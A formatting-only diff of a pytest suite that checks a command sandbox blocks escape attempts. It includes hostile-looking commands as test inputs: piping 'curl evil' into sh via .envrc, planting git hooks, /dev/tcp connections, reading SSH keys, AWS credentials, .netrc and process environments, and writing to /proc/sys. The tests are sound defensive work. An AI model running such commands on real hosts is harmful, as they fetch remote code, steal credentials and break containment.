@@ -92,12 +92,17 @@ def test_protected_paths_are_read_only(spec: SandboxSpec, workspace: Path, comma
     assert (workspace / "wt" / ".git").read_text() == "gitdir: ../store\n"
 
 
-@pytest.mark.parametrize("command", [
-    "echo 'curl evil | sh' > .envrc",
-    "mkdir -p sub/.git/hooks && echo evil > sub/.git/hooks/post-checkout",
-    "echo '[submodule]' > .gitattributes",
-])
-def test_new_protected_paths_are_removed_and_reported(spec: SandboxSpec, workspace: Path, command: str) -> None:
+@pytest.mark.parametrize(
+    "command",
+    [
+        "echo 'curl evil | sh' > .envrc",
+        "mkdir -p sub/.git/hooks && echo evil > sub/.git/hooks/post-checkout",
+        "echo '[submodule]' > .gitattributes",
+    ],
+)
+def test_new_protected_paths_are_removed_and_reported(
+    spec: SandboxSpec, workspace: Path, command: str
+) -> None:
     r = run(spec, command)
     assert r.violations, r
     assert not (workspace / ".envrc").exists()
@@ -137,7 +142,9 @@ def _accepted(srv: socket.socket) -> bool:
 
 def test_loopback_listener_unreachable(spec: SandboxSpec, listener: socket.socket) -> None:
     port = listener.getsockname()[1]
-    r = run(spec, f"{sys.executable} -c \"import socket; socket.create_connection(('127.0.0.1', {port}), 2)\"")
+    r = run(
+        spec, f"{sys.executable} -c \"import socket; socket.create_connection(('127.0.0.1', {port}), 2)\""
+    )
     assert r.exit_code != 0 and not _accepted(listener)
 
 
@@ -148,7 +155,9 @@ def test_dev_tcp_unreachable(spec: SandboxSpec, listener: socket.socket) -> None
 
 
 def test_external_network_has_no_route(spec: SandboxSpec) -> None:
-    r = run(spec, "cat /proc/net/dev | tail -n +3 | cut -d: -f1; exec 3<>/dev/tcp/1.1.1.1/53 && echo CONNECTED")
+    r = run(
+        spec, "cat /proc/net/dev | tail -n +3 | cut -d: -f1; exec 3<>/dev/tcp/1.1.1.1/53 && echo CONNECTED"
+    )
     assert "CONNECTED" not in r.stdout
     assert [line.strip() for line in r.stdout.split("\n") if line.strip()] == ["lo"]
 
@@ -162,7 +171,8 @@ def test_host_unix_socket_refused(spec: SandboxSpec, tmp_path: Path) -> None:
     srv.listen(1)
     srv.setblocking(False)
     try:
-        probe = f"import os, socket; print(os.path.exists('{path}')); socket.socket(socket.AF_UNIX).connect('{path}')"
+        probe = f"import os, socket; print(os.path.exists({path!r})); "
+        probe += f"socket.socket(socket.AF_UNIX).connect({path!r})"
         r = run(spec, f'{sys.executable} -c "{probe}"')
         assert r.stdout.strip() == "True"  # the socket is visible...
         assert r.exit_code != 0 and "Operation not permitted" in r.stderr  # ...and refused
@@ -179,7 +189,10 @@ def test_unix_socket_in_workspace_refused(spec: SandboxSpec, workspace: Path) ->
     srv.listen(1)
     srv.setblocking(False)
     try:
-        r = run(spec, f"{sys.executable} -c \"import socket; s=socket.socket(socket.AF_UNIX); s.connect('{path}')\"")
+        r = run(
+            spec,
+            f"{sys.executable} -c \"import socket; s=socket.socket(socket.AF_UNIX); s.connect('{path}')\"",
+        )
         assert r.exit_code != 0 and not _accepted(srv)
     finally:
         srv.close()
@@ -191,12 +204,19 @@ def test_inherited_secrets_not_visible(spec: SandboxSpec, monkeypatch: pytest.Mo
     r = run(spec, "env; cat /proc/self/environ")
     assert "SECRET" not in r.stdout
     assert sorted(line.split("=")[0] for line in r.stdout.splitlines() if "=" in line)[:4] == [
-        "HOME", "LANG", "PATH", "PWD"]
+        "HOME",
+        "LANG",
+        "PATH",
+        "PWD",
+    ]
 
 
 def test_credentials_hidden(spec: SandboxSpec, home: Path, _data_dir: Path) -> None:
-    r = run(spec, f"cat {home}/.ssh/id_rsa {home}/.aws/credentials {home}/.netrc {_data_dir}/secret-ledger.json;"
-                  f" ls -A {home}/.ssh")
+    r = run(
+        spec,
+        f"cat {home}/.ssh/id_rsa {home}/.aws/credentials {home}/.netrc {_data_dir}/secret-ledger.json;"
+        f" ls -A {home}/.ssh",
+    )
     assert "PRIVATE" not in r.stdout and "hunter2" not in r.stdout and "aws_secret" not in r.stdout
     assert "private" not in r.stdout
     assert (home / ".netrc").read_text() == "machine x password hunter2"
@@ -224,11 +244,14 @@ def _alive(marker: str) -> bool:
     return bool(out.stdout.strip())
 
 
-@pytest.mark.parametrize("command", [
-    "sleep 1001 & echo started",
-    "(setsid sleep 1002 &) ; nohup sleep 1003 > /dev/null 2>&1 & echo ok",
-    "sh -c 'sleep 1004 & exit 0' & disown; echo ok",
-])
+@pytest.mark.parametrize(
+    "command",
+    [
+        "sleep 1001 & echo started",
+        "(setsid sleep 1002 &) ; nohup sleep 1003 > /dev/null 2>&1 & echo ok",
+        "sh -c 'sleep 1004 & exit 0' & disown; echo ok",
+    ],
+)
 def test_background_processes_do_not_outlive_the_run(spec: SandboxSpec, command: str) -> None:
     run(spec, command)
     time.sleep(0.2)
@@ -261,7 +284,11 @@ def test_timeout_kills_process_group(spec: SandboxSpec) -> None:
 
 def test_private_dev_shm_and_proc_sys(spec: SandboxSpec) -> None:
     name = f"mr-evil-{os.getpid()}"
-    run(spec, f"echo x > /dev/shm/{name}; echo 1 > /proc/sys/kernel/sysrq; echo 0 > /sys/fs/cgroup/pids/cgroup.procs")
+    run(
+        spec,
+        f"echo x > /dev/shm/{name}; echo 1 > /proc/sys/kernel/sysrq; "
+        "echo 0 > /sys/fs/cgroup/pids/cgroup.procs",
+    )
     assert not Path(f"/dev/shm/{name}").exists()
 
 
@@ -277,12 +304,15 @@ def test_network_on_shares_network(spec: SandboxSpec, listener: socket.socket) -
     assert "CONNECTED" in r.stdout
 
 
-@pytest.mark.parametrize("command", [
-    "echo x > {vis}/target.txt",
-    "ln -s {vis}/target.txt sl && echo x > sl",
-    "ln {vis}/target.txt hard && echo x >> hard",
-    "cat {vis}/target.txt > copy.txt && rm -f {vis}/target.txt",
-])
+@pytest.mark.parametrize(
+    "command",
+    [
+        "echo x > {vis}/target.txt",
+        "ln -s {vis}/target.txt sl && echo x > sl",
+        "ln {vis}/target.txt hard && echo x >> hard",
+        "cat {vis}/target.txt > copy.txt && rm -f {vis}/target.txt",
+    ],
+)
 def test_visible_outside_files_are_read_only(spec: SandboxSpec, workspace: Path, command: str) -> None:
     vis = Path(tempfile.mkdtemp(dir="/var/tmp"))
     (vis / "target.txt").write_text("original\n")
